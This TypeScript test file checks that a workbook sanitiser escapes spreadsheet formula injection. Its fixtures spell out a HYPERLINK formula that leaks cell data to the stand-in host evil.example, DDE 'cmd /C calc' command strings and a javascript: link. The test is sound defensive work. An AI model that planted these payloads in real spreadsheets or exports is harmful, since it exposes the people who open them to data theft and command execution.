import ExcelJS from 'exceljs'
import JSZip from 'jszip'
import { describe, expect, it } from 'vitest'
import { neutralizeWorkbook } from './neutralize-workbook.ts'

async function read(file: Buffer): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook()
  await workbook.xlsx.load(file as unknown as ArrayBuffer)
  return workbook
}

describe('neutralizeWorkbook', () => {
  it('turns text, formula, rich-text and link cells that would run into inert text; keeps the rest', async () => {
    const source = new ExcelJS.Workbook()
    const sheet = source.addWorksheet('Crosstab')
    sheet.addRow(['Customer', 'Note', 'Sales'])
    sheet.addRow(['=HYPERLINK("http://evil.example/?leak="&A3,"Click")', "+cmd|' /C calc'!A0", 1200.5])
    sheet.addRow(["@SUM(1+1)*cmd|' /C calc'!A0", '-2+3', new Date(Date.UTC(2026, 0, 31))])
    sheet.addRow([
      { formula: 'HYPERLINK("http://evil.example","Open")', result: 'Open' },
      { richText: [{ text: '=1+' }, { text: '1' }] },
      { text: '=link', hyperlink: 'javascript:alert(1)' },
    ])
    sheet.addRow(['East', 'Plain, safe text', true])
    sheet.getCell('A1').font = { bold: true }

    const safe = await read(await neutralizeWorkbook(Buffer.from(await source.xlsx.writeBuffer())))
    const out = safe.getWorksheet('Crosstab')!
    const row = (n: number) => (out.getRow(n).values as unknown[]).slice(1)
    expect(row(2)).toEqual([
      '\'=HYPERLINK("http://evil.example/?leak="&A3,"Click")',
      "'+cmd|' /C calc'!A0",
      1200.5,
    ])
    expect(row(3)).toEqual(["'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", new Date(Date.UTC(2026, 0, 31))])
    expect(row(4)).toEqual(['\'=HYPERLINK("http://evil.example","Open")', "'=1+1", "'=link"])
    expect(row(5)).toEqual(['East', 'Plain, safe text', true])
    expect(out.getCell('A1').font?.bold).toBe(true)

    // Nothing left in the file that Excel would evaluate or follow.
    const zip = await JSZip.loadAsync(await neutralizeWorkbook(Buffer.from(await source.xlsx.writeBuffer())))
    const xml = await zip.file('xl/worksheets/sheet1.xml')!.async('string')
    expect(xml).not.toContain('<f>')
    expect(Object.keys(zip.files).some((name) => name.includes('_rels/sheet1.xml.rels'))).toBe(false)
  })
})
